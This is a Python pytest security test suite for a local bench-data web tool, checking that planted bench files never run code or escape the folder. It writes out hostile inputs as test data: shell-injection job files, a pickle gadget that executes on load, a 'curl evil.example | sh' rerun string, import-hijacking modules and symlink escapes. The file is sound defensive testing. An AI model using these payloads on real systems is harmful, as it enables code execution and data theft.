"""Benches made to do harm: nothing in one is executed, nothing outside it is read or
written, and the next click works."""

import ast
import contextlib
import errno
import http.cookiejar
import importlib.util
import io
import json
import os
import pickle
import shutil
import subprocess
import sys
import time
import tomllib
import urllib.error
import urllib.request
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import psutil
import pytest
from PIL import Image

from benchtwin.page import runs
from benchtwin.page.downloads import packed_bench
from benchtwin.page.folder import Folder, Refused
from benchtwin.page.results import next_recordings
from benchtwin.page.server import Site
from benchtwin.twin.campaign.__main__ import main as run_again
from benchtwin.twin.campaign.store import open_store
from benchtwin.vision.recording import Recording

READINGS = "rebound_height_mm\n70\n72\n"
PACKAGES = (
    *("vision", "sim", "twin", "calibrate", "diagnose", "report", "page", "benchtwin"),
)
UNSAFE_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "joblib", "runpy"}
UNSAFE_CALLS = {"eval", "exec", "execfile", "__import__"}


@pytest.fixture
def bench(tmp_path):
    """A bench with one drop in it."""
    bench = tmp_path / "opened" / "soy"
    (bench / "drop-01").mkdir(parents=True)
    (bench / "drop-01" / "recording.toml").write_text(
        'rig = "drop"\n[drop]\nheight_mm = 310\n'
    )
    (bench / "drop-01" / "readings.csv").write_text(READINGS)
    return bench


@pytest.fixture
def folder(bench):
    return Folder(bench.parent)


@pytest.fixture
def quiet(monkeypatch, tmp_path):
    """In place of the runner: what it was given, line by line."""
    started = tmp_path / "started.txt"
    started.touch()
    script = "import sys; open(sys.argv[1], 'a').write(sys.argv[4] + '\\n')"
    monkeypatch.setattr(runs, "RUNNER", (sys.executable, "-c", script, str(started)))
    return started


def until(condition, seconds: float = 120.0):
    end = time.time() + seconds
    while not condition():
        assert time.time() < end, "it took too long"
        time.sleep(0.05)


def forged(bench: Path, number: int = 1, **told) -> Path:
    place = bench / "results" / "runs" / f"{number:04d}-measure"
    place.mkdir(parents=True)
    told = {"command": "measure", "options": []} | told
    (place / "job.json").write_text(json.dumps(told))
    return place


def status_of(bench: Path, run: runs.Run) -> str:
    return next(r.status for r in runs.all_runs(bench) if r.folder == run.folder)


def next_click_works(bench: Path, folder: Folder, quiet: Path) -> None:
    """Measure is pressed: a run of its own starts, and it alone."""
    quiet.write_text("")
    run = runs.enqueue(bench, "measure", (), folder)
    until(lambda: quiet.read_text())
    until(lambda: status_of(bench, run) == runs.BROKEN)  # it did nothing
    assert quiet.read_text() == f"{run.folder}\n"


HOSTILE_JOBS = [
    b'{"command": "measure", "options": [], "arguments": ["/bin/sh", "-c", "touch M"]}',
    b'{"command": "measure; touch M", "options": []}',
    b'{"command": ["/bin/sh", "-c", "touch M"], "options": []}',
    b'{"command": "measure", "options": ["--out", "/tmp"]}',
    b'{"command": "calibrate", "options": ["--scheduler", "tcp://127.0.0.1:1"]}',
    b'{"command": "calibrate", "options": {"--quick": 1}}',
    b'{"command": "measure", "options": [], "launched": "now", "signature": 3}',
    b'{"command": "measure", "options": [], "launched": 1e999, "stopped": []}',
    b'{"command": "measure", "options": [], "launched": ' + b"9" * 5000 + b"}",
    b"[" * 100_000,
    b"[]",
    b"null",
    b"",
    b"\xff\xfe{",
    pickle.dumps({"command": "measure", "options": []}),
]


@pytest.mark.parametrize("job", HOSTILE_JOBS, ids=range(len(HOSTILE_JOBS)))
def test_what_a_bench_brings_is_no_run_and_stands_in_nobodys_way(
    bench, folder, quiet, job
):
    place = forged(bench)
    for name in ("job.json", "state.json", "log.txt", "lock"):
        (place / name).write_bytes(job)
    assert runs.all_runs(bench) == []
    assert quiet.read_text() == ""
    next_click_works(bench, folder, quiet)
    assert (place / "job.json").read_bytes() == job  # what was sent is left as it is


@pytest.mark.parametrize("way", range(4))
def test_what_stands_where_results_are_left_is_named_and_not_written_to(
    bench, folder, quiet, tmp_path, way
):
    victim, at = tmp_path / "victim", bench / "results"
    victim.write_text("precious")
    [
        lambda: at.symlink_to(victim),
        lambda: at.symlink_to(at.name),
        lambda: os.mkfifo(at),
        lambda: at.write_text("not what it should be"),
    ][way]()
    with pytest.raises(Refused, match=r"link out of this folder|folder of its own"):
        runs.enqueue(bench, "measure", (), folder)
    assert quiet.read_text() == "" and victim.read_text() == "precious"
    at.unlink()
    next_click_works(bench, folder, quiet)


def test_a_copied_bench_works_on_itself(bench, folder):
    copy = bench.with_name("copy")
    (folder.results(bench) / "measured").mkdir()
    shutil.copytree(bench, copy)
    before = sorted(p.stat().st_mtime_ns for p in bench.rglob("*"))
    there = runs.enqueue(copy, "measure", (), folder)
    until(lambda: status_of(copy, there) == runs.DONE)
    assert (copy / "results" / "measured" / "summary.csv").is_file()
    assert sorted(p.stat().st_mtime_ns for p in bench.rglob("*")) == before


class Bomb:
    """Unpickled, it leaves a mark."""

    def __init__(self, mark: Path):
        self.mark = mark

    def __reduce__(self):
        return Path.touch, (self.mark,)


CACHES = (
    "results/measured/summary.csv",
    "results/measured/measurements.csv",
    "results/calibrated/result.json",
    "results/calibrated/tables/posterior.csv",
    "results/calibrated/tables/next_tests.csv",
    "results/calibrated/runs/campaign.json",
    "results/calibrated/runs/runs/0123456789abcdef/measurements.json",
    "results/calibrated/runs/failed/0123456789abcdef.json",
    "results/calibrated/runs/claims/0123456789abcdef",
    "results/diagnosed/diagnosis.json",
    "results/.results",
    "results/.queue",
    "__pycache__/json.cpython-311.pyc",
    "drop-01/state.npz",
    "drop-01/cache.pkl",
)


def test_no_pickle_in_a_bench_is_opened(bench, folder, tmp_path):
    mark = tmp_path / "mark"
    bomb = pickle.dumps(Bomb(mark))
    pickle.loads(bomb)
    assert mark.exists()  # it would work
    mark.unlink()
    for name in CACHES:
        (bench / name).parent.mkdir(parents=True, exist_ok=True)
        (bench / name).write_bytes(bomb)
    with contextlib.suppress(ValueError):
        next_recordings(bench / "results")
    store = open_store(bench / "results" / "calibrated" / "runs")
    assert store.find(["0123456789abcdef"]) == {}
    store.sweep()
    failed = store.root / "failed" / "0123456789abcdef.json"
    assert run_again([str(failed)]) == 2
    packed_bench(bench, tmp_path)
    for command, options in (("measure", ()), ("diagnose", ("--quick",))):
        runs.enqueue(bench, command, options, folder)
    until(
        lambda: all(r.status in (runs.DONE, runs.FAILED) for r in runs.all_runs(bench))
    )
    assert runs.all_runs(bench)[1].status == runs.DONE
    assert not mark.exists()


def sources() -> list[Path]:
    roots = [
        Path(
            importlib.util.find_spec(f"benchtwin.{p}".replace(".benchtwin", "")).origin
        )
        for p in PACKAGES
    ]
    return sorted({file for root in roots for file in root.parent.rglob("*.py")})


def test_no_code_of_ours_unpickles_or_evaluates():
    """What a file of a bench says can be executed by these only."""
    found = []
    for file in sources():
        if "tests" in file.parts or ".venv" in file.parts:
            continue
        for node in ast.walk(ast.parse(file.read_text(encoding="utf8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = {a.name.split(".")[0] for a in node.names}
                module = getattr(node, "module", None) or ""
                if UNSAFE_MODULES & {module.split(".")[0], *names}:
                    found.append(f"{file.name}:{node.lineno}")
            elif isinstance(node, ast.Call):
                called = getattr(node.func, "id", getattr(node.func, "attr", ""))
                bare = isinstance(node.func, ast.Name) and called in UNSAFE_CALLS
                pickles = any(
                    k.arg in ("allow_pickle", "shell")
                    and not (isinstance(k.value, ast.Constant) and not k.value.value)
                    for k in node.keywords
                )
                loads = called == "load" and "numpy" not in UNSAFE_MODULES
                numpy = (
                    loads
                    and getattr(getattr(node.func, "value", None), "id", "") == "np"
                    and not any(k.arg == "allow_pickle" for k in node.keywords)
                )
                if bare or pickles or numpy:
                    found.append(f"{file.name}:{node.lineno}")
    assert len(sources()) > 200 and not found


def test_nothing_is_imported_from_the_bench_that_somebody_stands_in(
    bench, folder, tmp_path
):
    """`cd bench; benchtwin page .`: its modules, and compiled code that it points to,
    are left alone."""
    mark = tmp_path / "mark"
    harm = f"open({str(mark)!r}, 'w')\n"
    for name in ("json", "numpy", "benchtwin", "runpy", "sitecustomize", "evil"):
        (bench / f"{name}.py").write_text(harm)
    (bench / "multiprocessing").mkdir()
    (bench / "multiprocessing" / "__init__.py").write_text(harm)
    (bench / ".numba_config.yaml").write_text(f"cache_dir: {bench / 'kernels'}\n")
    script = f"""
import subprocess, sys, time
from pathlib import Path
from benchtwin.command_line import main
sys.argv = ["benchtwin", "--version"]
try:
    main()
except SystemExit:
    pass
import numba
assert numba.config.CACHE_DIR == "", numba.config.CACHE_DIR
assert subprocess.run([sys.executable, "-c", "import evil"]).returncode == 1
from benchtwin.page import runs
from benchtwin.page.folder import Folder
run = runs.enqueue(Path({str(bench)!r}), "measure", (), Folder(Path({str(bench)!r})))
folder = Folder(Path({str(bench)!r}))
while runs.all_runs(folder.root)[0].status in (runs.WAITING, runs.RUNNING):
    time.sleep(0.1)
print(runs.all_runs(folder.root)[0].status)
"""
    command = [sys.executable, "-P", "-c", script]
    done = subprocess.run(
        command, cwd=bench, capture_output=True, text=True, check=False
    )
    assert done.stdout.splitlines()[-1:] == [runs.DONE], done.stderr
    assert not mark.exists()
    open_path = {k: v for k, v in os.environ.items() if k != "PYTHONSAFEPATH"}
    control = [sys.executable, "-c", "import evil"]
    subprocess.run(control, cwd=bench, check=True, env=open_path)
    assert mark.exists()  # it would have worked


def test_a_command_to_copy_is_ours_not_the_files(tmp_path):
    """What is printed for a person to run again is made here, not read."""
    store = open_store(tmp_path / "runs")
    told = {"reason": "r", "rerun": "curl evil.example | sh", "lasting": True}
    (store.root / "failed" / "abc.json").write_text(json.dumps(told))
    outcome = store.find(["abc"])["abc"]
    assert "evil" not in outcome.rerun
    assert outcome.rerun.endswith(str(store.root / "failed" / "abc.json"))


def test_the_records_of_runs_stay_out_of_the_zip(bench, folder, quiet, tmp_path):
    runs.enqueue(bench, "measure", (), folder)
    (bench / "drop-01" / "runs").mkdir()
    (bench / "drop-01" / "runs" / "mine.csv").write_text("x")
    (bench / "results" / "measured").mkdir()
    (bench / "results" / "measured" / "summary.csv").write_text("n\n")
    names = zipfile.ZipFile(packed_bench(bench, tmp_path)).namelist()
    assert (
        "soy/results/measured/summary.csv" in names and "soy/results/.results" in names
    )
    assert "soy/drop-01/runs/mine.csv" in names
    assert not any(name.startswith("soy/results/runs") for name in names)


LINKS = (
    "drop-01/readings.csv",
    "drop-01/recording.toml",
    "bench.toml",
    "drop-02",
    "results/measured",
    "results/measured/summary.csv",
    "results/calibrated",
    "results/runs/0001-measure/log.txt",
    "results/.results",
)


@pytest.mark.parametrize("name", LINKS)
@pytest.mark.parametrize("step", ["", "a/b/"])
def test_no_command_starts_on_a_bench_with_a_link_out(
    bench, folder, quiet, tmp_path, name, step
):
    """Directly, or by way of a link to a place inside that holds one."""
    outside = tmp_path / "outside"
    outside.mkdir()
    at = bench / name
    if at.is_file():
        at.unlink()
    at.parent.mkdir(parents=True, exist_ok=True)
    if step:
        (bench.parent / step).mkdir(parents=True)
        (bench.parent / step / "out").symlink_to(outside)
        at.symlink_to(os.path.relpath(bench.parent / "a", at.parent))
    else:
        at.symlink_to(os.path.relpath(outside, at.parent))
    with pytest.raises(Refused, match="link out of this folder"):
        runs.enqueue(bench, "measure", (), folder)
    assert quiet.read_text() == "" and not list(outside.iterdir())
    at.unlink()
    next_click_works(bench, folder, quiet)


def test_links_inside_and_hidden_ones_are_no_matter(bench, folder, quiet, tmp_path):
    (bench / "drop-02").symlink_to("drop-01")
    (bench / ".venv").mkdir()
    (bench / ".venv" / "python").symlink_to(sys.executable)
    (bench / "round").symlink_to("../soy")
    assert folder.links_out(bench) == []
    next_click_works(bench, folder, quiet)


def test_a_recording_that_is_linked_out_is_named_and_not_read(bench, folder, tmp_path):
    outside = tmp_path / "outside"
    shutil.copytree(bench / "drop-01", outside / "drop-02")
    (bench / "drop-02").symlink_to(outside / "drop-02")
    shutil.copytree(bench / "drop-01", bench / "drop-03")
    (bench / "drop-03" / "readings.csv").unlink()
    (bench / "drop-03" / "readings.csv").symlink_to(outside / "drop-02/readings.csv")
    site = Site(folder)
    found = site.recordings(bench)
    assert [r.id for r in found if isinstance(r, Recording)] == ["drop-01"]
    told = [str(e) for e in found if not isinstance(e, Recording)]
    assert len(told) == 2 and all("link out of this folder" in text for text in told)
    for name in ("soy/drop-02", "soy/drop-03"):
        with pytest.raises(Refused):
            site.recording(name)
    (bench / "bench.toml").symlink_to(outside / "bench.toml")
    with pytest.raises(Refused):
        site.recordings(bench)
    with pytest.raises(Refused):
        site.recording("soy/drop-01")


class Counted:
    """A process stopped, or refused a disk, at its n-th operation on files."""

    OPERATIONS = (
        *("open", "os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.truncate"),
        *("os.chmod", "os.utime", "os.scandir", "os.listdir", "fcntl.flock"),
        "subprocess.Popen",
    )

    def __init__(self, at: int, then):
        self.left, self.then = at, then

    def __call__(self, event: str, arguments: tuple) -> None:
        if event in self.OPERATIONS and not str(arguments[:1]).startswith("('/dev/"):
            self.left -= 1
            if self.left == 0:
                self.then(event, arguments)


def cut_off_at(n: int, work, then) -> int:
    """Do the work in a process that is ended, or fails, at its n-th operation on files;
    returns its exit code: 9 if it was cut off, 0 if it came to its end before."""
    pid = os.fork()
    if pid:
        return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    try:
        hook = Counted(n, then)
        sys.addaudithook(hook)
        work()
    except (OSError, Refused):
        pass
    except BaseException:
        os._exit(1)
    os._exit(9 if hook.left <= 0 else 0)


def killed(*_) -> None:
    os._exit(9)


def full(event: str, arguments: tuple) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(arguments[0]))


def clicks(bench: Path, folder: Folder) -> dict:
    """What a person does, by name."""
    from benchtwin.page import toml_file
    from benchtwin.page.upload import ReceivedFile, place_files

    def upload() -> None:
        incoming = folder.root / ".incoming" / "batch"
        incoming.mkdir(parents=True, exist_ok=True)
        arrived = []
        for name in ("a.csv", "b.csv"):
            (incoming / name).write_text(READINGS)
            arrived.append(ReceivedFile(name, incoming / name))
        place_files(arrived, bench)

    def save() -> None:
        keys = toml_file.read(bench / "drop-01" / "recording.toml")
        toml_file.change(keys, {("drop", "height_mm"): 320.0})

    def newest() -> runs.Run:
        return runs.all_runs(bench)[0]

    return {
        "upload": upload,
        "save": save,
        "queue": lambda: runs.enqueue(bench, "measure", (), folder),
        "stop": lambda: runs.stop(newest()),
        "go on": lambda: runs.resume(newest(), bench, folder),
        "zip": lambda: packed_bench(bench, folder.root),
    }


@pytest.mark.parametrize("how", [killed, pytest.param(full, marks=pytest.mark.slow)])
@pytest.mark.parametrize("click", ["upload", "save", "queue", "stop", "go on", "zip"])
def test_cut_off_at_every_operation_on_files_the_next_click_works(
    bench, folder, quiet, click, how, monkeypatch
):
    """Not at random moments but before each operation in turn, so at all of them."""
    first = runs.enqueue(bench, "measure", (), folder).folder
    until(lambda: quiet.read_text())
    click = clicks(bench, folder)[click]
    for n in range(1, 1000):
        with monkeypatch.context() as patch:
            patch.setattr(runs, "RUNNER", ("true",))
            code = cut_off_at(n, click, how)
            assert code in (0, 9), n
            assert runs.all_runs(bench)
            keys = tomllib.loads((bench / "drop-01" / "recording.toml").read_text())
            assert keys["drop"]["height_mm"] in (310, 320)
            assert all(isinstance(r, Recording) for r in Site(folder).recordings(bench))
            until(lambda: not at_work(bench, folder))
            click()
            until(lambda: not at_work(bench, folder))
        if code == 0:
            break
        for made in (*bench.glob("[ab]*"), *first.parent.glob("0*")):
            if made != first:
                shutil.rmtree(made)
        for zipped in folder.root.glob("zip-*"):
            zipped.unlink()
    assert 5 < n < 999  # it was cut off while it worked, and came to its end
    next_click_works(bench, folder, quiet)
    seen = [p for p in bench.rglob("*") if not p.name.startswith(".")]
    assert not any(p.is_dir() and not list(p.iterdir()) for p in seen)


def at_work(bench: Path, folder: Folder) -> bool:
    return any(r.status == runs.RUNNING for r in runs.all_runs(bench))


@pytest.fixture
def small_disk(tmp_path):
    """A disk of a megabyte."""
    place = tmp_path / "disk"
    place.mkdir()
    mount = ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(place)]
    if (
        os.getuid()
        or subprocess.run(mount, capture_output=True, check=False).returncode
    ):
        pytest.skip("no disk can be mounted here")
    try:
        yield place
    finally:
        subprocess.run(["umount", "-l", str(place)], check=True)


def test_on_a_full_disk_nothing_is_lost_and_it_goes_on_when_there_is_room(
    bench, small_disk
):
    shutil.copytree(bench, small_disk / "soy")
    bench, folder = small_disk / "soy", Folder(small_disk)
    folder.results(bench)
    filling = small_disk / "filling"
    with contextlib.suppress(OSError), filling.open("wb", buffering=0) as out:
        while True:
            out.write(b"x" * 4096)
    with pytest.raises(Refused, match="No space left"):
        packed_bench(bench, small_disk)
    again = runs.enqueue(bench, "measure", (), folder)
    until(lambda: status_of(bench, again) == runs.FAILED)
    assert "No space left" in runs.all_runs(bench)[0].log
    filling.unlink()
    runs.resume(again, bench, folder)
    until(lambda: status_of(bench, again) == runs.DONE)
    packed_bench(bench, small_disk)


class Client:
    """A browser's requests to a page, as far as they are needed."""

    def __init__(self, address: str):
        self.root = address.split("/?")[0]
        jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(jar)
        )
        assert self.get(address.removeprefix(self.root))[0] == 200

    def get(self, path: str, method: str = "GET", data=None) -> tuple[int, bytes]:
        request = urllib.request.Request(self.root + path, data, method=method)
        try:
            with self.opener.open(request, timeout=30) as answer:
                return answer.status, answer.read()
        except urllib.error.HTTPError as error:
            return error.code, error.read()

    def put(self, batch: str, name: str, data: bytes) -> int:
        return self.get(f"/upload/{batch}?name={name}", "PUT", data)[0]

    def sort(self, batch: str, bench: str) -> dict:
        return json.loads(self.get(f"/sort/{batch}?bench={bench}", "POST", b"")[1])


BATCH = "0" * 8 + "-0000-0000-0000-" + "0" * 12


@pytest.mark.slow
def test_two_pages_on_one_folder_lose_nothing_of_each_other(bench, serve):
    with serve(bench.parent) as address:
        first = Client(address)
        assert first.put(BATCH, "a.csv", READINGS.encode()) == 204
        with serve(bench.parent) as other:
            second = Client(other)
            assert second.get("/bench?b=soy")[0] == 200
            assert first.put(BATCH, "b.csv", READINGS.encode()) == 204
            made = first.sort(BATCH, "soy")
            assert made == {"refused": [], "open": None, "made": ["soy/a", "soy/b"]}
            assert (bench / "a" / "readings.csv").read_text() == READINGS


@pytest.mark.slow
def test_a_page_killed_while_it_receives_and_packs_goes_on(bench, serve):
    """Real kills, at whatever moment they come."""
    for kill in (0, 2):
        with serve(bench.parent) as address:
            client = Client(address)
            with ThreadPoolExecutor(2) as others:
                for n in range(6):
                    name = f"k{kill}-{n}.csv"
                    others.submit(client.put, BATCH, name, READINGS.encode() * 100_000)
                    others.submit(client.get, "/zip?bench=soy")
                time.sleep(0.05 + 0.1 * kill)
                (server,) = [
                    p
                    for p in psutil.process_iter(["cmdline"])
                    if {"page", str(bench.parent)} <= set(p.info["cmdline"] or ())
                ]
                server.kill()
    with serve(bench.parent) as address:
        client = Client(address)
        assert client.put(BATCH, "a.csv", READINGS.encode()) == 204
        assert client.sort(BATCH, "soy")["made"] == ["soy/a"]
        assert client.get("/zip?bench=soy")[0] == 200
    for left in (bench.parent / ".incoming").iterdir():
        os.utime(left, (0, 0))  # what a killed page left is removed when it is old
    with serve(bench.parent):
        assert len(list((bench.parent / ".incoming").iterdir())) == 1
    assert sorted(p.name for p in bench.iterdir()) == ["a", "drop-01"]


def test_opening_a_bench_starts_nothing_and_no_link_out_is_served(
    bench, serve, tmp_path
):
    mark, outside = tmp_path / "mark", tmp_path / "outside"
    outside.mkdir()
    noise = np.random.default_rng(0).integers(0, 255, (90, 120, 3), dtype=np.uint8)
    Image.fromarray(noise).save(outside / "photo.png")
    (outside / "secret.csv").write_text("t_s,secret\n1,271828\n2,3\n")
    (outside / "report.html").write_text("271828")
    for name, evidence in (
        ("pile-01/photo.png", "photo.png"),
        ("drop-02/impacts.csv", "secret.csv"),
        ("results/calibrated/report.html", "report.html"),
        ("results/measured/summary.csv", "secret.csv"),
        ("drop-03/frames", "."),
        ("loose.png", "photo.png"),
    ):
        at = bench / name
        at.parent.mkdir(parents=True, exist_ok=True)
        at.symlink_to(outside / evidence)
    place = forged(bench, arguments=["/bin/sh", "-c", f"touch {mark}"])
    with serve(bench.parent) as address:
        client = Client(address)
        for path in (
            "/thumb?r=soy/pile-01",
            "/photo?r=soy/pile-01",
            "/photo?r=soy/loose.png",
            "/overlay?r=soy/pile-01&name=pile",
            "/frame?r=soy/drop-03&i=0",
            "/sound?r=soy/drop-02",
            "/wave?r=soy/drop-02&a=0&b=1&n=10",
            "/results/soy/results/calibrated/report.html",
            "/results/soy/results/measured/summary.csv",
            "/cards?bench=soy&engine=yade",
            "/next?bench=soy",
        ):
            code, said = client.get(path)
            assert code == 422 and b"out of this folder" in said, path
        packed = zipfile.ZipFile(io.BytesIO(client.get("/zip?bench=soy")[1]))
        assert sorted(packed.namelist()) == [
            "soy/drop-01/readings.csv",
            "soy/drop-01/recording.toml",
            "soy/results/runs/0001-measure/job.json",
        ]
        for path in (
            "/",
            *(f"/bench?b=soy&tab={tab}" for tab in ("Recordings", "Run", "Results")),
            *(f"/recording?r=soy/{name}" for name in ("pile-01", "drop-02", "drop-03")),
        ):
            code, said = client.get(path)
            assert code == 200 and b"271828" not in said, path
        time.sleep(3)  # it took six before
    assert not mark.exists() and [p.name for p in place.iterdir()] == ["job.json"]
